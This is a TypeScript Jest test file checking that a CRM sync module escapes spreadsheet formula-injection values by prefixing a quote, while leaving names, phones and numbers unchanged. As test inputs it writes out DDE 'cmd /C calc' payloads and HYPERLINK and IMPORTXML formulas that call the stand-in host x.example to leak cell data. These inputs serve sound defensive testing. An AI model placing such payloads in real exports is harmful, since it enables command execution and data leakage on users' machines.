import { desiredProjection, spreadsheetSafe } from '../../../lambda/core/domain/crm-sync';
import { newSession } from '../../support/domain-records';

describe('what the CRM receives of what the model recorded', () => {
  test('a value that starts like a formula reaches the CRM as text: a spreadsheet that opens the export runs nothing', () => {
    for (const formula of ['=HYPERLINK("https://x.example/?"&A1,"clique")', '@SUM(A1:A9)', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1']) {
      expect(spreadsheetSafe(formula)).toBe(`'${formula}`);
    }
  });

  test('ordinary values, numbers and phones stay as they are', () => {
    for (const plain of ['Maria Silva', '+55 11 99999-0000', '-1200', '+5511999990000', '(11) 3333-4444', 'teste de paternidade', '', 1200, true]) {
      expect(spreadsheetSafe(plain)).toBe(plain);
    }
  });

  test('the projection neutralises the registration data, segment, intent and qualification, never the customer id or the stage', () => {
    const session = newSession('5511999990000', {
      state: 'QUALIFYING',
      cadastralData: { name: '=IMPORTXML("https://x.example","//a")', phone: '+55 11 99999-0000', dealValue: 1200 },
      segment: '@segmento',
      intent: 'buy_exam',
      qualificationData: { exam: '-1+cmd|\' /C calc\'!A0', when: 'amanhã' },
    });
    const { contact, deal } = desiredProjection(session);
    expect(contact).toEqual({ customerId: '5511999990000', name: '\'=IMPORTXML("https://x.example","//a")', phone: '+55 11 99999-0000', dealValue: 1200 });
    expect(deal).toMatchObject({ stage: expect.any(String), segment: "'@segmento", intent: 'buy_exam', qualification: { exam: "'-1+cmd|' /C calc'!A0", when: 'amanhã' } });
  });
});
